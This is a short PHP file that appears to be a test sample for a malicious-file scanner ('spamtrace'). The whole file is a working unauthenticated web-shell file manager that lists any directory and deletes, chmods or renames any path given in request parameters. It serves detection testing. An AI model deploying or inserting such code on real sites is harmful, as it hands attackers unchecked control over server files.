<?php
// spamtrace test sample: a one-file manager left on a site that asks nobody who they are:
// it lists a folder and deletes, chmods and renames whatever path the form names
$dir = isset($_GET['d']) ? $_GET['d'] : getcwd();
if (isset($_POST['del'])) {
    unlink($_POST['del']);
}
if (isset($_POST['f'], $_POST['mode'])) {
    $f = $_POST['f'];
    chmod($f, octdec($_POST['mode']));
}
if (isset($_POST['from'], $_POST['to'])) {
    rename($_POST['from'], $_POST['to']);
}
foreach (scandir($dir) as $e) {
    echo htmlspecialchars($dir . '/' . $e), "<br>\n";
}
?>
<form method="post"><input name="del"><input name="f"><input name="mode"><button>Go</button></form>
